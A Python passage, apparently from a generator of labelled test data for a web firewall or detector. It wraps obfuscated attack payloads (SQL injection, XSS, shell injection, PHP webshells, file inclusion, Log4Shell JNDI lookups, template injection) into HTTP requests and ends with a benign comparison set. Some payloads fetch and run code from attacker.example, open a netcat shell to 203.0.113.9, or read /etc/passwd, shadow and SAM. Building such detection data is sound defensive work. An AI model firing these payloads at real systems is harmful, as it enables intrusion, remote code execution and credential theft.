        return c.get(f"/api/users?{name}={twice}&page=1"), "query", once
    if v == 1:
        return c.get(f"/api/users/{twice}"), "path", once
    if v == 2:
        return c.form("/admin/users/search", [("csrf_token", c.tok()), (name, once)]), "form", once
    if v == 3:
        return c.json("/api/users", {"name": "Ann Lee", "redirect": once, name: once}), "json", once
    rec = c.get("/api/users?page=1")
    rec["headers"]["Cookie"] = f"session={c.tok()}; {name}={once}"
    return rec, "cookie", once


def t_fullwidth(c: Ctx, fam: str, p: str, v: int) -> Made:
    name = NAMES[fam][v % 5]
    fw = fullwidth(p, v % 4)
    v %= 5
    if v == 0:
        return c.get("/api/users?" + qs([(name, fw), ("page", "1")])), "query", fw
    if v == 1:
        return c.json("/api/users", {"name": "Ann Lee", name: fw}), "json", fw
    if v == 2:
        return c.form("/admin/users/search", [("csrf_token", c.tok()), ("q", fw)]), "form", fw
    if v == 3:
        return c.slack_event(json.dumps("lookup user " + fw, ensure_ascii=False)), "json", fw
    return c.slack_command("user " + fw), "form", fw


def t_multipart_field(c: Ctx, fam: str, p: str, v: int) -> Made:
    name = NAMES[fam][v % 5]
    ok = BENIGN_VAL[fam]
    avatar = ('Content-Disposition: form-data; name="avatar"; filename="avatar.svg"\r\nContent-Type: image/svg+xml',
              '<svg xmlns="http://www.w3.org/2000/svg" width="8" height="8"><rect width="8" height="8"/></svg>')
    v %= 5
    if v == 0:
        parts = [('Content-Disposition: form-data; name="name"', "Ann Lee"),
                 (f'Content-Disposition: form-data; name="{name}"', p), avatar]
        return c.multipart("/api/users", parts), "multipart-field", p
    if v == 1:
        parts = [('Content-Disposition: form-data; name="csrf_token"', c.tok()),
                 (f"content-disposition: form-data; name={name}", p)]
        return c.multipart("/me/settings", parts), "multipart-field", p
    if v == 2:
        parts = [('Content-Disposition: form-data; name="name"', "Ann Lee"),
                 (f'Content-Disposition: form-data; name="{name}"', p),
                 (f'Content-Disposition: form-data; name="{name}"', ok)]
        return c.multipart("/api/users", parts), "multipart-field", p
    if v == 3:
        parts = [('Content-Disposition: form-data; name="csrf_token"', c.tok()),
                 (f"Content-Disposition: form-data;name*=UTF-8''{name}\r\nContent-Type: text/plain; charset=UTF-8",
                  p)]
        return c.multipart("/me/settings", parts), "multipart-field", p
    b = "=_Part_" + c.hexs(8) + ".x"
    doc = f'{{"{name}": {json_lit(p, 0)}}}'
    parts = [('Content-Disposition: form-data; name="csrf_token"', c.tok()),
             ('Content-Disposition: form-data; name="query"\r\nContent-Type: application/json', doc)]
    return c.multipart("/admin/users/search", parts, b, f'multipart/form-data; boundary="{b}"'), \
        "multipart-field", doc


def t_multipart_filename(c: Ctx, fam: str, p: str, v: int) -> Made:
    quoted = p.replace("\\", "\\\\").replace('"', '\\"')
    star = "UTF-8''" + pct(p)
    content = ("Content-Type: image/png", "PNG-placeholder-bytes")
    v %= 5
    if v == 0:
        cd = f'Content-Disposition: form-data; name="avatar"; filename="{quoted}"'
    elif v == 1:
        cd = f"Content-Disposition: form-data; name=\"avatar\"; filename*={star}"
    elif v == 2:
        cd = f'Content-Disposition: form-data; name="avatar"; filename="avatar.png"; filename*={star}'
    elif v == 3:
        cd = f'content-disposition: form-data; filename="{quoted}"; name="avatar"'
    else:
        cd = f'Content-Disposition: form-data; name="avatar"; filename="avatar.png"; filename="{quoted}"'
    uri = "/api/users" if v % 2 == 0 else "/me/settings"
    parts = [('Content-Disposition: form-data; name="csrf_token"', c.tok()), (cd + "\r\n" + content[0], content[1])]
    return c.multipart(uri, parts), "multipart-filename", cd.split("; ", 2)[-1]


def t_param_name(c: Ctx, fam: str, p: str, v: int) -> Made:
    v %= 5
    if v == 0:
        return c.get(f"/api/users?{pct(p)}=1&page=2"), "param-name", p
    if v == 1:
        return c.form("/me/settings", [("csrf_token", c.tok()), (p, "on")]), "param-name", p
    if v == 2:
        return c.json("/api/users", {"name": "Ann Lee", p: "x"}), "param-name", p
    if v == 3:
        return c.get(f"/api/users?filter%5B{pct(p)}%5D=1&page=1"), "param-name", p
    return c.json("/api/users/42", {"settings": {p: True}}, "PATCH"), "param-name", p


LEADS = ["lookup user ", "<@U07BOT1234> lookup user ", "lookup user ann.lee ", "lookup user\n", "hey bot, lookup user "]


def t_slack_event(c: Ctx, fam: str, p: str, v: int) -> Made:
    lead = LEADS[v % 5]
    kind = "app_mention" if "<@" in lead else "message"
    text = lead + (slack_escape(p) if v % 2 else p)
    return c.slack_event(json.dumps(text, ensure_ascii=False), kind), "json", text


def t_slack_command(c: Ctx, fam: str, p: str, v: int) -> Made:
    text = "user " + p
    if v % 2:
        text = slack_escape(text)
    command = ["/lookup", "/whois", "/lookup", "/ticket", "/lookup"][v % 5]
    return c.slack_command(text, command), "form", text


def t_header(c: Ctx, fam: str, p: str, v: int) -> Made:
    rec = c.get(c.pick(["/api/users?page=1", "/api/users/42", "/me/settings", "/admin/users/search?q=lee"]))
    h = rec["headers"]
    v %= 5
    if v == 0:
        h["User-Agent"] = p
        return rec, "header:User-Agent", p
    if v == 1:
        h["user-agent"] = p   # a second User-Agent, told apart from the first by case
        return rec, "header:User-Agent", p
    if v == 2:
        val = "https://app.example.com/search?q=" + p
        h["Referer"] = val
        return rec, "header:Referer", val
    if v == 3:
        val = "203.0.113.7,\t" + p.replace(" ", "\t")
        h["X-Forwarded-For"] = val
        return rec, "header:X-Forwarded-For", val
    name = HEADER4[fam]
    h[ODD_CASE[name]] = p
    return rec, f"header:{name}", p


def t_cookie(c: Ctx, fam: str, p: str, v: int) -> Made:
    rec = c.get(c.pick(["/api/users?page=1", "/api/users/42", "/me/settings"]))
    h = rec["headers"]
    name = NAMES[fam][v % 5]
    v %= 5
    if v == 0:
        val = cookie_quote(p, False)
        h["Cookie"] = f"session={c.tok()}; {name}={val}"
    elif v == 1:
        val = cookie_quote(p, True)
        h["Cookie"] = f"session={c.tok()}; {name}={val}"
    elif v == 2:
        val = pct(p)
        h["Cookie"] = f"{name}={val}; session={c.tok()}; {name}={pct(BENIGN_VAL[fam])}"
    elif v == 3:
        val = pct(p)
        del h["Cookie"]
        h["cookie"] = f"session={c.tok()}; theme=dark; {name}={val}"
    else:
        val = pct(p)
        h["Cookie"] = f"session={c.tok()}; {val}=1"
    return rec, "cookie", val


def t_path(c: Ctx, fam: str, p: str, v: int) -> Made:
    e = pct(p)
    v %= 5
    if v == 0:
        return c.get(f"/api/users/{e}"), "path", p
    if v == 1:
        return c.get(f"/api/users/{e}/avatar"), "path", p
    if v == 2:
        return c.get(f"/api/users/42;{e}"), "path", p
    if v == 3:
        return c.json(f"/api/users/{e}", {"name": "Ann Lee"}, "PATCH"), "path", p
    return c.get(f"/api/users/{pct(p, safe='/')}" if fam == "lfi" else f"/api/{e}"), "path", p


def t_raw_body(c: Ctx, fam: str, p: str, v: int) -> Made:
    name = NAMES[fam][v % 5]
    doc = json.dumps({"name": "Ann Lee", name: p})
    v %= 6
    if v == 0:
        return c.send("POST", "/api/users", doc, "text/plain;charset=UTF-8"), "raw-body", p
    if v == 1:
        return c.send("POST", "/api/users", doc, None), "raw-body", p
    if v == 2:
        return c.send("POST", "/api/users", "\ufeff" + doc, "application/json"), "raw-body", p
    if v == 3:
        return c.send("PATCH", "/api/users/42", json.dumps({name: p}), "application/merge-patch+json"), "raw-body", p
    if v == 4:
        body = json.dumps({"csrf_token": c.tok(), "q": p})
        return c.send("POST", "/admin/users/search", body, "application/x-www-form-urlencoded"), "raw-body", p
    return c.send("POST", "/api/users", doc, "APPLICATION/JSON ; Charset=UTF-8"), "raw-body", p


def t_charset(c: Ctx, fam: str, p: str, v: int) -> Made:
    name = NAMES[fam][v % 5]
    doc = json.dumps({"name": "Ann Lee", name: p})   # ASCII: every UTF-16 byte stays below 0x80
    v %= 3
    if v == 0:
        body = doc.encode("utf-16-le").decode("latin-1")
        return c.send("POST", "/api/users", body, "application/json; charset=utf-16le"), "raw-body", p
    if v == 1:
        body = doc.encode("utf-16-be").decode("latin-1")
        return c.send("POST", "/api/users", body, "application/json"), "raw-body", p
    body = json.dumps({name: p}).encode("utf-16-le").decode("latin-1")
    return c.send("PATCH", "/api/users/42", body, "application/json; charset=UTF-16"), "raw-body", p


def _xxe_target(fam: str, p: str) -> str | None:
    if fam == "lfi":
        if p.startswith("file:"):
            return p
        return "file://" + p if p.startswith("/") else "file:///var/www/app/" + p.replace("\\", "/")
    if fam in ("rfi", "generic") and p.startswith(("http", "ftp", "gopher")):
        return p
    if fam == "rfi":
        return "http://attacker.example/x.dtd"
    return None


def t_xml(c: Ctx, fam: str, p: str, v: int) -> Made:
    name = NAMES[fam][v % 5]
    head = '<?xml version="1.0" encoding="UTF-8"?>\n'
    v %= 5
    if v == 0:
        body = f"{head}<user><name>Ann Lee</name><{name}>{xml_esc(p)}</{name}></user>"
        placed = xml_esc(p)
    elif v == 1:
        placed = xml_ncr(p)
        body = f"{head}<user><name>Ann Lee</name><{name}>{placed}</{name}></user>"
    elif v == 2:
        a, b = p[: len(p) // 2], p[len(p) // 2:]
        placed = f"<![CDATA[{a}]]><![CDATA[{b}]]>"
        body = f"{head}<user><name>Ann Lee</name><{name}>{placed}</{name}></user>"
    elif v == 3:
        a, b = p[: len(p) // 2], p[len(p) // 2:]
        quote = "'" if '"' in a else '"'
        ent = xml_esc(a).replace("&quot;", '"') if quote == "'" else xml_esc(a)
        ent = ent.replace("'", "&#39;") if quote == "'" else ent
        placed = f"<!ENTITY h {quote}{ent}{quote}> &h;{xml_esc(b)}"
        body = (f"{head}<!DOCTYPE user [<!ENTITY h {quote}{ent}{quote}>]>\n"
                f"<user><name>Ann Lee</name><{name}>&h;{xml_esc(b)}</{name}></user>")
    else:
        target = _xxe_target(fam, p)
        if target is not None:
            q = "'" if '"' in target else '"'
            placed = f"<!ENTITY x SYSTEM {q}{target}{q}>"
            body = f"{head}<!DOCTYPE user [{placed}]>\n<user><name>Ann Lee</name><{name}>&x;</{name}></user>"
        else:
            placed = xml_esc(p).replace("'", "&apos;")
            body = f"{head}<user name=\"Ann Lee\" {name}=\"{placed}\"/>"
        rec = c.send("PATCH", "/api/users/42", body, "text/xml; charset=utf-8")
        return rec, "xml", placed
    return c.send("POST", "/api/users", body, "application/xml"), "xml", placed


def t_html_entity(c: Ctx, fam: str, p: str, v: int) -> Made:
    name = NAMES[fam][v % 5]
    ent = entities(p, v % 4)
    v %= 5
    if v == 0:
        return c.slack_event(json.dumps("lookup user " + ent)), "json", ent
    if v == 1:
        return c.json("/api/users", {"name": "Ann Lee", name: ent}), "json", ent
    if v == 2:
        return c.form("/admin/users/search", [("csrf_token", c.tok()), ("q", ent)]), "form", ent
    if v == 3:
        return c.json("/api/users/42", {name: ent}, "PATCH"), "json", ent
    return c.slack_command("user " + ent), "form", ent


def t_split_fields(c: Ctx, fam: str, p: str, v: int) -> Made:
    f1, f2, joiner = SPLIT_FIELDS[fam]
    a, b = split2(p) if joiner == " " else (p[: len(p) // 2], p[len(p) // 2:])
    placed = json.dumps([a, b])
    v %= 4
    if v == 0:
        return c.form("/me/settings", [("csrf_token", c.tok()), (f1, a), (f2, b)]), "form", placed
    if v == 1:
        return c.json("/api/users", {"email": "ann.lee@example.org", f1: a, f2: b}), "json", placed
    if v == 2:
        return c.get("/api/users?" + qs([(f1, a), ("page", "1"), (f2, b)])), "query", placed
    return c.json("/api/users/42", {f1: a, f2: b}, "PATCH"), "json", placed


def t_depth_padding(c: Ctx, fam: str, p: str, v: int) -> Made:
    name = NAMES[fam][v % 5]
    v %= 4
    if v == 0:
        doc: Any = {name: p}
        for i in range(40):
            doc = {f"level{39 - i}": doc}
        return c.json("/api/users", {"name": "Ann Lee", "meta": doc}), "json", p
    if v == 1:
        doc = {"name": "Ann Lee", "tags": [f"tag-{i:03d}" for i in range(400)], name: p}
        return c.json("/api/users", doc), "json", p
    if v == 2:
        fields = [("csrf_token", c.tok())] + [(f"f{i}", f"v{i}") for i in range(300)] + [("q", p)]
        return c.form("/admin/users/search", fields), "form", p
    body = " " * 12000 + json.dumps({"name": "Ann Lee", name: p})
    return c.json_text("/api/users", body), "json", p


Technique = Callable[[Ctx, str, str, int], Made]
TECHNIQUES: list[tuple[str, Technique, int]] = [
    ("dup-param", t_dup_param, 5),
    ("hpp-split", t_hpp_split, 5),
    ("json-unicode", t_json_unicode, 5),
    ("json-dup-key", t_json_dup_key, 5),
    ("json-nested", t_json_nested, 5),
    ("base64", t_base64, 5),
    ("hex", t_hex, 3),
    ("url-double", t_url_double, 5),
    ("fullwidth", t_fullwidth, 5),
    ("multipart-field", t_multipart_field, 5),
    ("multipart-filename", t_multipart_filename, 5),
    ("param-name", t_param_name, 5),
    ("slack-event", t_slack_event, 5),
    ("slack-command", t_slack_command, 5),
    ("header", t_header, 5),
    ("cookie", t_cookie, 5),
    ("path", t_path, 5),
    ("raw-body", t_raw_body, 5),
    ("charset", t_charset, 3),
    ("xml", t_xml, 5),
    ("html-entity", t_html_entity, 5),
    ("split-fields", t_split_fields, 4),
    ("depth-padding", t_depth_padding, 3),
]
SKIP = {("param-name", "rfi"), ("path", "rfi"), ("multipart-filename", "java"), ("multipart-filename", "rfi")}

# ----------------------------------------------------------------------------------------------------------------
# hand-written obfuscation, placed by rotation

HAND: dict[tuple[str, str], list[str]] = {
    ("comment-concat", "sqli"): [
        "1'/**/UNION/**/SELECT/**/email,password_hash/**/FROM/**/users--",
        "'/*x*/OR/*x*/1=1/*x*/--",
        "1 /*!50000UNION*/ /*!50000SELECT*/ 1,user()-- -",
        "1'/*!12345UnIoN*//*!12345sElEcT*/ 1,2-- -",
        "'||(SELECT chr(112)||chr(119))||'",
        "' OR 'ad'||'min'='admin'--",
        "admin'-- note\nUNION SELECT 1,2",
        "1' UNION SELECT CONCAT(0x61,0x3a,password_hash) FROM users#",
        "'; EXEC('SEL'+'ECT name FROM sys.databases')--",
        "' OR/**/EXISTS(SELECT/**/1/**/FROM/**/pg_user)--",
        "1';SELECT/**/pg_sleep(5)--",
        "x'||CHAR(39)||'OR'||CHAR(39)||'1",
        "' UNION SELECT $$admin$$, $$x$$--",
        "1'||(SELECT/**/substr(sqlite_version(),1,1))||'",
    ],
    ("case-space", "sqli"): [
        "' oR 1=1 -- -",
        "1'\tUNION\tSELECT\tnull,version()--",
        "1'\x0bUnIoN\x0bsElEcT\x0b1,2--",
        "1'\nOR\n'1'='1",
        "' Or\x0c'x'='x",
        "1')  oR  (('1'='1",
        "'\r\nuNiOn\r\nAlL\r\nsElEcT\r\nNULL--",
    ],
    ("comment-concat", "xss"): [
        "<img src=x onerror=window['al'+'ert'](document.domain)>",
        "<svg onload=top[/al/.source+/ert/.source](1)>",
        "<img src=x onerror=self['\\x61lert'](1)>",
        "<svg/onload=eval('\\u0061lert(1)')>",
        "<img src=x onerror=alert`1`>",
        "<script>/**/alert(1)/**/</script>",
        "<svg onload=setTimeout('al'+'ert(1)')>",
        "<img src onerror=Function('ale'+'rt(document.cookie)')()>",
        "<iframe srcdoc='&lt;script&gt;alert(1)&lt;/script&gt;'>",
        "<img src=x onerror=\"a=document;a['wr'+'ite']('<scr'+'ipt src=//attacker.example/x.js></scr'+'ipt>')\">",
        "<svg onload=[].constructor.constructor('ale'+'rt(1)')()>",
        "<img src=x:y onerror=globalThis[atob('YWxlcnQ=')](1)>",
    ],
    ("case-space", "xss"): [
        "<ScRiPt>alert(1)</sCrIpT>",
        "<svg\x0conload=alert(1)>",
        "<img/src=x/onerror=alert(1)>",
        "<IMG SRC=x ONERROR=alert(1)>",
        "<a href=\" javascript:alert(1)\">x</a>",
        "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
        "<svg\nonload\n=\nalert(1)>",
        "<body\tonpageshow=alert(1)>",
    ],
    ("html-entity", "xss"): [
        "<a href=\"java&Tab;script:alert(1)\">x</a>",
        "<a href=\"&#106avascript:alert(1)\">x</a>",
        "<a href=\"javascript&colon;alert(1)\">x</a>",
        "<a href=\"&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)\">x</a>",
        "<iframe src=\"jav&NewLine;ascript:alert(1)\">",
        "<img src=x onerror=\"&#97&#108&#101&#114&#116(1)\">",
    ],
    ("comment-concat", "rce"): [
        ";c'a't /e\"t\"c/pa''sswd",
        ";c\\at /et\\c/pas\\swd",
        ";/???/c?t /???/p?ss??",
        ";$(printf '\\x69\\x64')",
        ";cat${IFS}/etc${IFS}passwd",
        ";a=i;b=d;$a$b",
        ";w$@hoami",
        ";{cat,/etc/passwd}",
        ";$(rev<<<'di')",
        "|ca$()t /etc/passwd",
        ";echo aWQ=|base64 -d|sh",
        ";who$(echo am)i",
        "`echo Y3VybCBodHRwOi8vYXR0YWNrZXIuZXhhbXBsZS94fHNo|base64 -d|bash`",
        ";/bin/ba?h -c 'i''d'",
        ";ne''t''cat -e /bin/sh 203.0.113.9 4444",
    ],
    ("case-space", "rce"): [
        ";\tcat\t/etc/passwd",
        "&&\nid",
        "\nid\n",
        "; CMD /c whoami",
        "| PowerShell -NoP -C \"IEX (New-Object Net.WebClient).DownloadString('http://attacker.example/a')\"",
        "&& ^w^h^o^a^m^i",
        "$(\tid\t)",
    ],
    ("comment-concat", "php"): [
        "'sys'.'tem'('id');",
        "$a='as'.'sert';$a($_POST['x']);",
        "/**/system/**/('id');",
        "\"\\x73ystem\"('id');",
        "(sy.(st).em)('whoami');",
        "$_=\"pa\".\"ss\".\"thru\";$_('id');",
        "<?php /* x */ eval/* y */($_REQUEST['c']); ?>",
        "<?php $f=strrev('metsys');$f('id');",
        "<?php ${'_GE'.'T'}['f'](${'_GE'.'T'}['a']);",
        "implode('',['sys','tem'])('id');",
        "<?=`{$_GET[0]}`?>",
        "str_replace('x','','sxyxsxtxexm')('id');",
    ],
    ("case-space", "php"): [
        "<?PhP SyStEm('id'); ?>",
        "<?php\tsystem\t('id');",
        "<?php\nPASSTHRU('cat /etc/passwd');",
        "Php://FiLtEr/convert.base64-encode/resource=index.php",
        "<?php\n\n\n@EVAL($_POST['x']);",
        "<?= SHELL_EXEC('id') ?>",
    ],
    ("dot-segment", "lfi"): [
        "..././..././..././etc/passwd",
        "/etc/./passwd",
        "/etc//passwd",
        "..//..//..//etc/passwd",
        "/var/www/app/../../../etc/passwd",
        "static/../../../../etc/passwd",
        "/./././etc/shadow",
        "/proc/self/cwd/config.py",
        "/proc/self/fd/3",
        "/usr/local/app/../../../proc/self/environ",
        "uploads/../../../../../etc/hosts",
    ],
    ("case-space", "lfi"): [
        "C:\\WINDOWS\\WIN.INI",
        "c:/windows/system32/drivers/etc/hosts",
        "..\\..\\..\\..\\Windows\\System32\\config\\SAM",
        "\\\\?\\C:\\Windows\\win.ini",
        "file:///C:/Windows/win.ini",
    ],
    ("url-mangling", "rfi"): [
        "hTTp://attacker.example/shell.txt?",
        "HTTPS://203.0.113.9/inc.php?",
        "http://attacker.example/shell.txt?.jpg",
        "http://attacker.example/shell.txt#.png",
        "http://3405803785/shell.txt",
        "http://0xcb007109/x.txt",
        "ftp://anonymous@attacker.example/mod.txt",
        "http://attacker.example:80@203.0.113.9/x.py",
        "https://raw.githubusercontent.com/attacker/x/main/s.py?",
        "\\\\203.0.113.9\\share\\x.php",
    ],
    ("comment-concat", "java"): [
        "${${lower:j}${lower:n}${lower:d}${lower:i}:ldap://attacker.example/a}",
        "${${env:NOPE:-j}ndi${env:NOPE:-:}ldap://attacker.example/a}",
        "${jn${::-d}i:ldap://attacker.example/a}",
        "${j${k8s:x:-n}di:ldap://attacker.example/a}",
        "${${upper:j}${upper:n}di:rmi://attacker.example/a}",
        "%{#a='java.lang.Run'+'time',@java.lang.Runtime@getRuntime().exec('id')}",
        "#{T(java.lang.Class).forName('java.lang.Run'+'time').getMethod('getRuntime').invoke(null).exec('id')}",
        "${''.getClass().forName('java.lang.Ru'.concat('ntime'))}",
        "${jndi:${lower:l}${lower:d}${lower:a}${lower:p}://attacker.example/a}",
        "${${date:'j'}ndi:ldap://attacker.example/a}",
    ],
    ("case-space", "java"): [
        "${JNDI:LDAP://attacker.example/a}",
        "${jNdI:lDaP://attacker.example/a}",
        "${jndi:LDAP://203.0.113.9/Basic/Command/Base64/aWQ=}",
        "${JnDi:Dns://attacker.example}",
        "${jndi:RmI://attacker.example:1099/o}",
    ],
    ("comment-concat", "generic"): [
        "__import__('o'+'s').system('id')",
        "getattr(__import__('os'),'sys'+'tem')('id')",
        "eval('__imp'+'ort__(\"os\").popen(\"id\").read()')",
        "__import__(bytes.fromhex('6f73').decode()).system('id')",
        "[c for c in ().__class__.__base__.__subclasses__() if c.__name__=='Popen'][0](['id'])",
        "exec(''.join(map(chr,[105,109,112,111,114,116,32,111,115])))",
        "__builtins__.__dict__['ex'+'ec']('import os;os.system(\"id\")')",
        "require('child'+'_process').execSync('id')",
        "global['proc'+'ess'].mainModule.require('fs').readFileSync('/etc/passwd')",
        "this['constr'+'uctor']['constr'+'uctor']('return process')()",
        "vars()['__builtins__'].__import__('subprocess').getoutput('id')",
    ],
    ("comment-concat", "ssti"): [
        "{{''['__cl'+'ass__']['__mr'+'o__'][1]['__subcl'+'asses__']()}}",
        "{{request|attr('\\x5f\\x5fclass\\x5f\\x5f')}}",
        "{{()|attr('__cla''ss__')}}",
        "{{lipsum|attr('__glo'~'bals__')|attr('__getitem__')('os')|attr('popen')('id')|attr('read')()}}",
        "{%set a='__glo'+'bals__'%}{{cycler.__init__[a].os.popen('id').read()}}",
        "{{request['applica'~'tion']['__globals__']['__builtins__']['__import__']('os').popen('id').read()}}",
        "{{config['__cl'+'ass__'].__init__.__globals__['o'+'s'].popen('id').read()}}",
        "{{ self|attr(\"\\u005f\\u005fdict\\u005f\\u005f\") }}",
        "{# c #}{{cycler.__init__.__globals__.os.popen('id').read()}}",
        "{%- print(lipsum.__globals__['o''s'].popen('id').read()) -%}",
        "${self.module.cache.util.os.popen('i'+'d').read()}",
        "{{'%c%c%c%c%c%c%c%c%c'|format(95,95,99,108,97,115,115,95,95)}}",
    ],
    ("case-space", "ssti"): [
        "{{\tconfig\t}}",
        "{{\ncycler.__init__.__globals__.os.popen('id').read()\n}}",
        "{%\tif\t1\t%}{{lipsum.__globals__}}{%\tendif\t%}",
        "{{-config.items()-}}",
        "{{ request . application . __globals__ }}",
    ],
}


def place_rot(c: Ctx, fam: str, p: str, i: int) -> Made:
    name = NAMES[fam][i % 5]
    i %= 6
    if i == 0:
        return c.get("/api/users?" + qs([(name, p), ("page", "1")])), "query", p
    if i == 1:
        return c.form("/admin/users/search", [("csrf_token", c.tok()), ("q", p)]), "form", p
    if i == 2:
        return c.json("/api/users", {"name": "Ann Lee", name: p}), "json", p
    if i == 3:
        return c.slack_event(json.dumps("lookup user " + p, ensure_ascii=False)), "json", p
    if i == 4:
        return c.form("/me/settings", [("csrf_token", c.tok()), (name, p)]), "form", p
    return c.json("/api/users/42", {name: p}, "PATCH"), "json", p


def pollution(c: Ctx) -> Iterator[Made]:
    """Prototype pollution and Python class pollution (a recursive merge of the request into an object)."""
    bodies = [
        '{"name": "Ann Lee", "__proto__": {"isAdmin": true}}',
        '{"name": "Ann Lee", "\\u005f\\u005fproto\\u005f\\u005f": {"isAdmin": true}}',
        '{"constructor": {"prototype": {"role": "admin"}}}',
        '{"settings": {"__pro\\u0074o__": {"shell": "/bin/sh"}}}',
        '{"__class__": {"__init__": {"__globals__": {"app": {"secret_key": "known"}}}}}',
        '{"name": "Ann Lee", "__class__": {"__init__": {"__globals__": {"os": {"environ": {"BROWSER": "id"}}}}}}',
        '{"profile": {"__cl\\u0061ss__": {"__base__": {"__qualname__": "x"}}}}',
    ]
    for i, body in enumerate(bodies):
        uri, method = ("/api/users/42", "PATCH") if i % 2 else ("/api/users", "POST")
        yield c.json_text(uri, body, method), "json", body
    for q in ["__proto__[isAdmin]=true", "constructor[prototype][admin]=1", "a%5B__proto__%5D%5Bx%5D=1",
              "__pro%74o__[isAdmin]=1", "__class__.__init__.__globals__.app.debug=1"]:
        yield c.get("/api/users?" + q + "&page=1"), "param-name", urllib.parse.unquote(q)


def overlong(c: Ctx) -> Iterator[tuple[str, Made]]:
    """Overlong UTF-8 forms, for a decoder behind the edge that accepts them (Python's does not)."""
    lfi = ["..%c0%af..%c0%af..%c0%afetc%c0%afpasswd", "%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd",
           "..%e0%80%af..%e0%80%af..%e0%80%afetc%e0%80%afshadow", "%c0%ae%c0%ae%c1%9c%c0%ae%c0%ae%c1%9cwin.ini"]
    xss = ["%c0%bcscript%c0%bealert(1)%c0%bc/script%c0%be", "%c0%bcsvg%20onload=alert(1)%c0%be",
           "%e0%80%bcimg%20src=x%20onerror=alert(1)%e0%80%be"]
    sqli = ["%c0%a7%20OR%201=1--", "admin%c0%a7--", "1%c0%a7%20UNION%20SELECT%20password_hash%20FROM%20users--"]
    for fam, items in (("lfi", lfi), ("xss", xss), ("sqli", sqli)):
        for i, raw in enumerate(items):
            name = NAMES[fam][i % 5]
            if i % 2 and fam == "lfi":
                yield fam, (c.get(f"/api/users/{raw.replace('/', '%2f')}"), "path", raw)
            else:
                yield fam, (c.get(f"/api/users?{name}={raw}&page=1"), "query", raw)


def utf7(c: Ctx) -> Iterator[Made]:
    """UTF-7 stored XSS: a page served without a charset, read by a client that sniffs UTF-7."""
    for i, p in enumerate(["+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "+ADw-img src+AD0-x onerror+AD0-alert(1)+AD4-",
                           "+ADw-svg onload+AD0-alert(document.domain)+AD4-"]):
        if i == 1:
            yield c.send("POST", "/api/users", json.dumps({"name": "Ann Lee", "bio": p}),
                         "application/json; charset=utf-7"), "raw-body", p
        else:
            yield c.form("/me/settings", [("csrf_token", c.tok()), ("bio", p)]), "form", p


def _check(rec: Rec) -> Rec:
    for k, val in rec["headers"].items():
        assert not any(ch in val for ch in "\r\n\x00"), (k, val)
    assert rec["uri"].isascii() and " " not in rec["uri"], rec["uri"]
    return rec


def attacks() -> Iterator[Rec]:
    c = Ctx(86)
    n = 0

    def emit(fam: str, sub: str, made: Made, decoded: str) -> Rec:
        nonlocal n
        n += 1
        req, placement, placed = made
        return _check({**req, "id": f"{NAME}-{fam}-{n:04d}", "category": fam, "sub": sub, "placement": placement,
                       "payload": placed, "decoded": decoded})

    for ti, (tech, fn, count) in enumerate(TECHNIQUES):
        for fi, fam in enumerate(FAMILIES):
            if (tech, fam) in SKIP:
                continue
            core = CORE[fam]
            for k in range(count):
                p = core[(ti * 5 + k + fi) % len(core)]
                yield emit(fam, f"{tech}-{fam}", fn(c, fam, p, k + fi), p)
    for (tech, fam), payloads in HAND.items():
        for i, p in enumerate(payloads):
            yield emit(fam, f"{tech}-{fam}", place_rot(c, fam, p, i), p)
    for made in pollution(c):
        yield emit("generic", "pollution-generic", made, made[2])
    for fam, made in overlong(c):
        yield emit(fam, f"overlong-utf8-{fam}", made, urllib.parse.unquote(made[2], errors="replace"))
    for made in utf7(c):
        yield emit("xss", "utf7-xss", made, made[2])


# ----------------------------------------------------------------------------------------------------------------
# benign: the same tricks as real clients and people use them

PEOPLE = ["Zoë Kravitz", "Björn Ålund", "Renée O'Connor", "李雷", "Анна Петрова", "José María Núñez", "Åsa Lindqvist",
          "Jürgen Müller", "Siobhán Ní Bhriain", "سارة أحمد", "प्रिया शर्मा", "Nguyễn Thị Hương", "Łukasz Żółć",
          "Chloé Dubois", "Søren Kierkegaard", "D'Arcy McAllister", "Ann Lee", "Ben Ng", "María-José Gómez",
          "Ólafur Arnalds", "Zoë-Ann O'Brien", "山田 太郎", "김민준", "Ēriks Bērziņš", "Ana Lúcia d'Ávila"]
BIOS = [
    "I <3 hiking & climbing",
    "Head of R&D at Acme (previously: Initech)",
    "Tom & Jerry's biggest fan",
    "coffee > tea, always",
    "Product designer — \"less, but better\"",
    "Runner 🏃, reader 📚, occasional baker",
    "Backend engineer; Python & Go; on call every 4th week",
    "She/her. Berlin ↔ Lisbon",
    "Support lead: if it's broken, I want to know",
    "Data person. SQL by day, sourdough by night",
    "Formerly at Müller & Söhne GmbH",
    "Working 9–5 (CET), async after that",
    "50% design, 50% research, 100% curious",
    "Ask me about our on-boarding checklist",
    "Q&A host for the monthly all-hands",
]
SLACK_TEXTS = [
    "lookup user ann.lee", "lookup user maria.garcia@example.org", "lookup user Zoë Kravitz", "lookup user O'Brien",
    "lookup user 42", "<@U07BOT1234> lookup user ren.okada", "can someone lookup user jose.maria? badge isn't working",
    "Q&amp;A starts at 3pm in the big room", "ship it &gt; polish it, for this sprint at least",
    "I &lt;3 the new dashboard", "select the Q3 deck from the shared drive and drop it in #sales",
    "the union rep meeting moved to Thursday", "please drop me a line when the build is green",
    "who ordered the cat food for the office cat?", "price is 5 &lt; 10 USD per seat, cheaper than last year",
    "R&amp;D offsite: Lisbon, 12–14 June", "café on the 3rd floor is closed today ☕",
    "Reminder: expense reports by Friday (receipts as PDF, not HEIC)", "🎉 welcome Zoë to the team!",
    "where's the template for the release notes?", "anyone have the config for the staging VPN?",
    "customer wrote 'it works, finally!!' in the ticket 😂", "lookup user 李雷", "lookup user Анна",
    "lookup user müller", "can you include the Berlin office in the invite?",
    "the shared folder is Drive &gt; Team &gt; 2024 &gt; Plans",
    "order by date or by name in the report? I prefer date",
    "ping me when you're back", "exec team review moved to 2pm", "the alert went off twice last night, false alarm",
    "please fill in the form at <https://forms.example.com/feedback?team=ops&amp;q=2>",
    "new hire onboarding: laptop, badge, Slack, GitHub", "did someone script the weekly export? took me an hour",
    "1 or 2 people from each team, please", "the vote is 7 to 3 in favour", "100% agree with Ana's proposal",
    "Tom &amp; Jerry marathon on Friday?", "<https://docs.example.com/onboarding|Onboarding guide> is updated",
